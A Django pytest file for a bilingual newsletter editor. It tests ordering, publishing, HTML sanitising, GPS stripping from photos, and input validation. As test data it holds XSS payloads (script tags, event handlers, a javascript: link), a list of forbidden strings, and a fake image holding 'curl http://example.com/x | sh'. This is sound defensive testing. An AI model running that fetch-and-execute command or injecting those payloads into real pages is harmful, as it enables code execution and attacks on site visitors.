"""Composing an edition through the pages, as the publisher's editor does: the edition, its sections and items,
their order, publishing; what survives of the rich text people paste; what becomes of uploaded photos; and
answers to bad input that are never a server error."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from PIL import ExifTags, Image

from events.models import Event
from newsletters.models import Edition, Item, Section
from tests.factories import EditionFactory, EventFactory, ItemFactory, OrganizationFactory, SectionFactory
from tests.newsletters.conftest import World, client_for, edition_url, text_of

HOSTILE_HTML = (
    '<p onclick="steal()">Families met in <strong>Gaziantep</strong>; read the '
    '<a href="https://example.org/report">report</a> or <a href="javascript:alert(3)">this</a>.</p>'
    "<script>alert(1)</script>"
    '<img src="http://tracker.example.com/pixel.gif" onerror="alert(2)">'
    "<style>body { display: none }</style>"
    "<ul><li>Raqqa</li><li>Kobani</li></ul>"
)
FORBIDDEN = ["<script", "alert(", "onerror", "onclick", "steal()", "<img", "tracker.example.com", "javascript:"]
FORBIDDEN += ["<style", "display: none"]
KEPT = ["<p>", "<strong>Gaziantep</strong>", 'href="https://example.org/report"', "<ul>", "<li>Raqqa</li>"]


@pytest.fixture
def editor(world: World) -> Client:
    return client_for(world.editor)


@pytest.fixture
def draft(world: World) -> Edition:
    return EditionFactory(
        publication=world.publication, number=1, status=Edition.Status.DRAFT, published_on=None, title_en="Edition 1"
    )


def edition_form(**fields: Any) -> dict[str, Any]:
    return {"title_en": "Edition Number 4: October 2024 to March 2025", "status": Edition.Status.DRAFT, **fields}


def new_edition_url(world: World) -> str:
    return f"/en/bulletins/{world.publication.slug}/editions/new/"


def media_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def article(response: Any) -> str:
    """The edition itself on its page, without the site's header and footer."""
    html = response.content.decode()
    return html[html.index('<article class="edition"') : html.rindex("</article>")]


# The edition -------------------------------------------------------------------------------------------------


def test_new_edition_form_suggests_the_next_number(world: World, editor: Client) -> None:
    EditionFactory(publication=world.publication, number=3)

    response = editor.get(new_edition_url(world))

    assert response.status_code == 200
    assert 'name="number" value="4"' in response.content.decode()


def test_editor_creates_an_edition_with_the_suggested_number(world: World, editor: Client) -> None:
    EditionFactory(publication=world.publication, number=3)

    response = editor.post(new_edition_url(world), edition_form(number="4", period_start="2024-10-01"))

    assert response.status_code == 302
    assert response["Location"] == f"/en/bulletins/{world.publication.slug}/4/compose/"
    edition = Edition.objects.get(publication=world.publication, number=4)
    assert edition.status == Edition.Status.DRAFT
    assert edition.title_en == "Edition Number 4: October 2024 to March 2025"
    assert edition.published_on is None


def test_edition_left_without_a_number_gets_the_next_one(world: World, editor: Client) -> None:
    EditionFactory(publication=world.publication, number=3)

    assert editor.post(new_edition_url(world), edition_form()).status_code == 302

    assert Edition.objects.filter(publication=world.publication, number=4).exists()


def test_editor_adds_sections_and_items_in_order(editor: Client, draft: Edition) -> None:
    for title_en, title_ar in [("Advocacy Activities", "أنشطة المناصرة"), ("Trainings", "التدريبات")]:
        response = editor.post(edition_url(draft, "sections/new/"), {"title_en": title_en, "title_ar": title_ar})
        assert response.status_code == 302
    advocacy, _trainings = draft.sections.order_by("position")
    for title in ["Discussion sessions in Raqqa and Kobani", "Report: «Not Our Choice»"]:
        response = editor.post(
            edition_url(draft, f"sections/{advocacy.pk}/items/new/"),
            {
                "title_en": title,
                "date": "2024-04-17",
                "body_en": "<p>Families met.</p>",
                "links": "https://example.org/",
            },
        )
        assert response.status_code == 302

    assert [(s.title_en, s.title_ar) for s in draft.sections.order_by("position")] == [
        ("Advocacy Activities", "أنشطة المناصرة"),
        ("Trainings", "التدريبات"),
    ]
    items = list(advocacy.items.order_by("position"))
    assert [item.title_en for item in items] == ["Discussion sessions in Raqqa and Kobani", "Report: «Not Our Choice»"]
    assert items[0].links == ["https://example.org/"]
    page = text_of(editor.get(edition_url(draft, "compose/")))
    assert page.index("1. Advocacy Activities") < page.index("Discussion sessions") < page.index("2. Trainings")
    assert "No item yet." in page  # the second section is empty
    arabic = text_of(editor.get(edition_url(draft, language="ar")))
    assert "أنشطة المناصرة" in arabic and "التدريبات" in arabic


def test_an_item_may_mention_only_what_the_public_may_see(editor: Client, draft: Edition) -> None:
    section = SectionFactory(edition=draft)
    public = EventFactory(title_en="Lausanne Platform, public session")
    closed = EventFactory(title_en="Closed working group on detainees", visibility=Event.Visibility.CLOSED)
    members = EventFactory(title_en="Members' briefing", visibility=Event.Visibility.MEMBERS)
    listed = OrganizationFactory(name_en="Families for Freedom")
    unlisted = OrganizationFactory(name_en="Unlisted witnesses group", listed_publicly=False)

    form = editor.get(edition_url(draft, f"sections/{section.pk}/items/new/")).content.decode()
    assert public.title_en in form and listed.name_en in form
    assert closed.title_en not in form and members.title_en not in form and unlisted.name_en not in form

    response = editor.post(
        edition_url(draft, f"sections/{section.pk}/items/new/"),
        {"title_en": "Meeting", "date": "2024-04-17", "events": [closed.pk], "organizations": [unlisted.pk]},
    )
    assert response.status_code == 200  # refused with the form's error, nothing saved
    assert not section.items.exists()


def order(edition: Edition) -> list[str]:
    return [section.title_en for section in edition.sections.order_by("position", "pk")]


def test_sections_move_up_and_down(editor: Client, draft: Edition) -> None:
    first, second, third = (SectionFactory(edition=draft, title_en=title) for title in ("One", "Two", "Three"))

    assert editor.post(edition_url(draft, f"section/{third.pk}/reorder/"), {"action": "up"}).status_code == 302
    assert order(draft) == ["One", "Three", "Two"]
    editor.post(edition_url(draft, f"section/{first.pk}/reorder/"), {"action": "down"})
    assert order(draft) == ["Three", "One", "Two"]
    # The first cannot go higher, the last no lower.
    editor.post(edition_url(draft, f"section/{third.pk}/reorder/"), {"action": "up"})
    editor.post(edition_url(draft, f"section/{second.pk}/reorder/"), {"action": "down"})
    assert order(draft) == ["Three", "One", "Two"]
    assert len({section.position for section in draft.sections.all()}) == 3


def test_items_move_within_their_section(editor: Client, draft: Edition) -> None:
    section = SectionFactory(edition=draft)
    first, second = ItemFactory(section=section, title_en="First"), ItemFactory(section=section, title_en="Second")

    editor.post(edition_url(draft, f"item/{second.pk}/reorder/"), {"action": "up"})

    assert [item.title_en for item in section.items.order_by("position")] == ["Second", "First"]
    assert first.pk != second.pk


def test_editor_deletes_an_item_and_a_section(editor: Client, draft: Edition) -> None:
    kept, removed = SectionFactory(edition=draft, title_en="Kept"), SectionFactory(edition=draft, title_en="Removed")
    item = ItemFactory(section=kept)
    ItemFactory(section=removed)

    assert editor.post(edition_url(draft, f"item/{item.pk}/reorder/"), {"action": "delete"}).status_code == 302
    assert editor.post(edition_url(draft, f"section/{removed.pk}/reorder/"), {"action": "delete"}).status_code == 302

    assert order(draft) == ["Kept"]
    assert not Item.objects.filter(section__edition=draft).exists()


def test_editor_publishes_an_edition(editor: Client, draft: Edition) -> None:
    response = editor.post(edition_url(draft, "publish/"))

    assert response.status_code == 302
    draft.refresh_from_db()
    assert draft.status == Edition.Status.PUBLISHED
    assert draft.published_on == timezone.localdate()
    assert draft.publish_at is None
    assert client_for().get(edition_url(draft)).status_code == 200


# Rich text ------------------------------------------------------------------------------------------------------


def assert_clean(html: str) -> None:
    for forbidden in FORBIDDEN:
        assert forbidden not in html, forbidden
    for kept in KEPT:
        assert kept in html, kept


def test_item_text_is_stored_and_shown_without_scripts_styles_images_or_handlers(
    editor: Client, draft: Edition
) -> None:
    section = SectionFactory(edition=draft)

    response = editor.post(
        edition_url(draft, f"sections/{section.pk}/items/new/"),
        {"title_en": "Hearing in Paris", "body_en": HOSTILE_HTML, "title_ar": "جلسة في باريس", "body_ar": HOSTILE_HTML},
    )

    assert response.status_code == 302
    item = Item.objects.get(section=section)
    assert_clean(item.body_en)
    assert_clean(item.body_ar)
    assert_clean(article(editor.get(edition_url(draft))))
    assert_clean(article(editor.get(edition_url(draft, language="ar"))))


def test_item_saved_with_the_arabic_interface_keeps_its_missing_translation_empty(
    editor: Client, draft: Edition
) -> None:
    section = SectionFactory(edition=draft)

    response = editor.post(
        edition_url(draft, f"sections/{section.pk}/items/new/", language="ar"),
        {"title_ar": "جلسة في باريس", "title_en": "Hearing in Paris", "body_en": "<p>Families met in Paris.</p>"},
    )

    assert response.status_code == 302
    item = Item.objects.get(section=section)
    assert item.body_en == "<p>Families met in Paris.</p>"
    # Arabic readers get the English text marked as English, not a copy passed off as the translation.
    assert item.body_ar == ""


def test_edition_introduction_is_stored_and_shown_clean(editor: Client, draft: Edition) -> None:
    response = editor.post(
        edition_url(draft, "edit/"),
        edition_form(number="1", introduction_en=HOSTILE_HTML, title_ar="العدد الأول", introduction_ar=HOSTILE_HTML),
    )

    assert response.status_code == 302
    draft.refresh_from_db()
    assert_clean(draft.introduction_en)
    assert_clean(draft.introduction_ar)
    assert_clean(article(editor.get(edition_url(draft))))
    assert_clean(article(editor.get(edition_url(draft, language="ar"))))


# Uploads -----------------------------------------------------------------------------------------------------


def photo_with_gps() -> bytes:
    """A JPEG as a phone takes it: the camera's make and the GPS position of the place it was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Canon"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps.update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (37.0, 4.0, 12.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (37.0, 22.0, 48.0),
        }
    )
    buffer = io.BytesIO()
    Image.new("RGB", (900, 600), (29, 78, 95)).save(buffer, format="JPEG", exif=exif)
    data = buffer.getvalue()
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    return data


def test_cover_photo_is_reencoded_without_its_gps_position_under_a_random_name(world: World, editor: Client) -> None:
    upload = SimpleUploadedFile("amal-family-home-gaziantep.jpg", photo_with_gps(), content_type="image/jpeg")

    response = editor.post(new_edition_url(world), edition_form(number="1", cover_photo=upload))

    assert response.status_code == 302
    cover = Edition.objects.get(publication=world.publication, number=1).cover_photo
    assert cover.name.startswith("newsletters/covers/")
    assert "gaziantep" not in cover.name and "amal" not in cover.name
    stored = Path(cover.path).read_bytes()
    assert b"Exif" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert image.size == (900, 600)
        assert dict(image.getexif()) == {}
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}


def test_item_photo_is_reencoded_too(editor: Client, draft: Edition) -> None:
    section = SectionFactory(edition=draft)
    upload = SimpleUploadedFile("IMG_2041.jpg", photo_with_gps(), content_type="image/jpeg")

    response = editor.post(
        edition_url(draft, f"sections/{section.pk}/items/new/"), {"title_en": "Hearing in Paris", "photo": upload}
    )

    assert response.status_code == 302
    photo = Item.objects.get(section=section).photo
    assert "IMG_2041" not in photo.name
    assert b"Exif" not in Path(photo.path).read_bytes()


def test_cover_that_is_not_an_image_is_refused_and_nothing_is_saved(world: World, editor: Client) -> None:
    upload = SimpleUploadedFile("cover.jpg", b"#!/bin/sh\ncurl http://example.com/x | sh\n", content_type="image/jpeg")

    response = editor.post(new_edition_url(world), edition_form(number="1", cover_photo=upload))

    assert response.status_code == 200
    assert "Upload a valid image" in text_of(response)
    assert not Edition.objects.filter(publication=world.publication).exists()
    assert media_files() == []


# Bad input -------------------------------------------------------------------------------------------------------


def test_period_ending_before_it_starts_is_refused(world: World, editor: Client) -> None:
    response = editor.post(new_edition_url(world), edition_form(period_start="2024-09-30", period_end="2024-04-01"))

    assert response.status_code == 200
    assert "The period must end after it starts." in text_of(response)
    assert not Edition.objects.filter(publication=world.publication).exists()


def test_duplicate_edition_number_is_refused(world: World, editor: Client, draft: Edition) -> None:
    response = editor.post(new_edition_url(world), edition_form(number=str(draft.number)))

    assert response.status_code == 200
    assert "Edition number 1 already exists." in text_of(response)
    assert Edition.objects.filter(publication=world.publication).count() == 1


def test_changing_an_edition_to_the_number_of_another_is_refused(editor: Client, draft: Edition) -> None:
    EditionFactory(publication=draft.publication, number=2)

    response = editor.post(edition_url(draft, "edit/"), edition_form(number="2"))

    assert response.status_code == 200
    assert "Edition number 2 already exists." in text_of(response)
    assert Edition.objects.get(pk=draft.pk).number == 1


def test_scheduled_edition_needs_a_publication_time(world: World, editor: Client) -> None:
    response = editor.post(new_edition_url(world), edition_form(status=Edition.Status.SCHEDULED))

    assert response.status_code == 200
    assert "A scheduled edition needs the date and time it goes public." in text_of(response)
    assert not Edition.objects.filter(publication=world.publication).exists()


def test_scheduled_edition_with_a_time_is_saved(world: World, editor: Client) -> None:
    response = editor.post(
        new_edition_url(world), edition_form(status=Edition.Status.SCHEDULED, publish_at="2030-01-15T09:00")
    )

    assert response.status_code == 302
    edition = Edition.objects.get(publication=world.publication)
    assert edition.status == Edition.Status.SCHEDULED
    assert edition.publish_at is not None and edition.published_on is None


def test_edition_without_a_title_in_any_language_is_refused(world: World, editor: Client) -> None:
    response = editor.post(new_edition_url(world), edition_form(title_en=""))

    assert response.status_code == 200
    assert not Edition.objects.filter(publication=world.publication).exists()


@pytest.mark.parametrize("data", [{"action": "up"}, {"action": "delete"}])
def test_reorder_of_an_unknown_kind_is_not_found(editor: Client, draft: Edition, data: dict[str, str]) -> None:
    section = SectionFactory(edition=draft)

    assert editor.post(edition_url(draft, f"chapter/{section.pk}/reorder/"), data).status_code == 404
    assert Section.objects.filter(pk=section.pk).exists()


def test_sections_and_items_of_another_edition_are_not_found(world: World, editor: Client, draft: Edition) -> None:
    other = ItemFactory(section=SectionFactory(edition=EditionFactory(publication=world.publication, number=2)))

    assert editor.post(edition_url(draft, f"item/{other.pk}/reorder/"), {"action": "delete"}).status_code == 404
    assert editor.post(edition_url(draft, f"section/{other.section_id}/reorder/"), {"action": "up"}).status_code == 404
    assert editor.get(edition_url(draft, f"sections/{other.section_id}/items/new/")).status_code == 404
    assert editor.get(edition_url(draft, f"sections/{other.section_id}/items/{other.pk}/")).status_code == 404
    assert editor.post(edition_url(draft, "item/999999/reorder/"), {"action": "up"}).status_code == 404
    assert Item.objects.filter(pk=other.pk).exists()


def test_reorder_and_publish_answer_only_to_post(editor: Client, draft: Edition) -> None:
    section = SectionFactory(edition=draft)

    assert editor.get(edition_url(draft, f"section/{section.pk}/reorder/")).status_code == 405
    assert editor.get(edition_url(draft, "publish/")).status_code == 405
    assert Edition.objects.get(pk=draft.pk).status == Edition.Status.DRAFT
